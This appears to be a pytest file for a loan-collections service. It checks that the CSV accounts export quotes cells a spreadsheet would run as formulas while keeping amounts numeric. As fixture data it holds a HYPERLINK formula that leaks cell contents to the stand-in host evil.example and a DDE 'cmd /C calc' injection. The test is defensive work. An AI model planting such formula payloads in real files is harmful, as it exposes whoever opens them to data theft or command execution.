"""The accounts export (DESIGN.md §5): safe to open in a spreadsheet, one row per loan known on
the date, on both databases."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncEngine

from service.assignment import queues
from service.assignment.run import strategies_for
from service.cob.nightly import Planning, run_cob
from service.db.models import Loan, LoanSnapshot, Role
from service.ingest.pipeline import ImportOptions, import_directory
from service.portfolio.exports import Column, CsvTable, account_rows
from service.settings import Settings
from tests.conftest import make_user

AS_OF = dt.date(2026, 11, 24)
FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"open")', "@SUM(1)", "+1", "-2")


def write_csv(directory: Path, name: str, header: list[str], rows: list[list[str]]) -> None:
    directory.mkdir(parents=True, exist_ok=True)
    with (directory / name).open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(header)
        writer.writerows(rows)


async def export(engine: AsyncEngine, as_of: dt.date) -> list[dict[str, str]]:
    text = "".join([chunk async for chunk in account_rows(engine, as_of)])
    return list(csv.DictReader(io.StringIO(text, newline="")))


async def test_cells_a_spreadsheet_would_run_are_neutralised_and_amounts_stay_numbers(
    engine: AsyncEngine, settings: Settings, tmp_path: Path
) -> None:
    drop = tmp_path / "drop"
    write_csv(
        drop,
        "borrowers.csv",
        ["borrower_ref", "name", "phone"],
        [["=B1", "=cmd|' /C calc'!A0", "13800138000"]],
    )
    loans = [*FORMULAS, "L-plain"]
    write_csv(
        drop,
        "loans.csv",
        ["loan_ref", "borrower_ref", "product", "currency", "principal", "annual_rate",
         "penalty_rate_daily", "disbursed_on", "maturity_on"],
        [[ref, "=B1", "@cash", "CNY", "1000.50", "0.05", "0.0005", "2026-01-05", "2026-10-01"]
         for ref in loans],
    )  # fmt: skip
    write_csv(
        drop,
        "installments.csv",
        ["loan_ref", "seq", "due_on", "principal_due", "interest_due"],
        [[ref, "1", "2026-10-01", "1000.50", "12.25"] for ref in loans],
    )
    report = await import_directory(engine, drop, ImportOptions(default_region="CN"))
    assert (report.status, report.error_count) == ("completed", 0)
    # A tab or carriage return cannot open an imported reference (the import trims them); a
    # queue's or a collector's name can carry one into the file.
    registry = strategies_for(settings)
    await make_user(engine, "\rcollector", Role.collector)
    async with engine.begin() as conn:
        await queues.create_queue(
            conn, registry, name="\tEverything", kind="collector", routing={}, position=1
        )
        await queues.add_member(conn, "\tEverything", "\rcollector")
    await run_cob(engine, AS_OF, settings.cob_config(), planning=Planning(registry, settings))

    rows = {row["loan_ref"]: row for row in await export(engine, AS_OF)}

    assert set(rows) == {f"'{ref}" for ref in FORMULAS} | {"L-plain"}
    async with engine.connect() as conn:
        snapshots = {
            ref: snapshot
            for ref, *snapshot in (
                await conn.execute(
                    select(
                        Loan.loan_ref,
                        LoanSnapshot.days_past_due,
                        LoanSnapshot.overdue_amount,
                        LoanSnapshot.outstanding,
                        LoanSnapshot.penalty_accrued,
                    ).join(Loan, Loan.id == LoanSnapshot.loan_id)
                )
            ).all()
        }
    for ref in loans:
        row = rows[f"'{ref}" if ref in FORMULAS else ref]
        assert (row["queue"], row["collector"]) == ("'\tEverything", "'\rcollector")
        dpd, overdue, outstanding, penalty = snapshots[ref]
        assert row["dpd"] == str(dpd) == "54"
        assert (row["overdue_amount"], row["outstanding"], row["penalty_accrued"]) == (
            f"{overdue:.2f}",
            f"{outstanding:.2f}",
            f"{penalty:.2f}",
        )
        assert Decimal(row["overdue_amount"]) == Decimal("1012.75")


def test_the_writer_decides_by_the_column_type_not_by_the_text() -> None:
    table = CsvTable((Column("ref"), Column("days", "integer"), Column("amount", "money")))
    lines = table.header() + table.rows(
        [
            ("-12.50", -3, Decimal("-12.50")),
            ("=1+1", 0, Decimal("0")),
            ("\t@x", 7, Decimal("1234567.5")),
            ("\rx", 1, None),
            ("plain - text", 2, Decimal("0.125")),
        ]
    )
    assert list(csv.reader(io.StringIO(lines, newline=""))) == [
        ["ref", "days", "amount"],
        ["'-12.50", "-3", "-12.50"],
        ["'=1+1", "0", "0.00"],
        ["'\t@x", "7", "1234567.50"],
        ["'\rx", "1", ""],
        ["plain - text", "2", "0.13"],
    ]
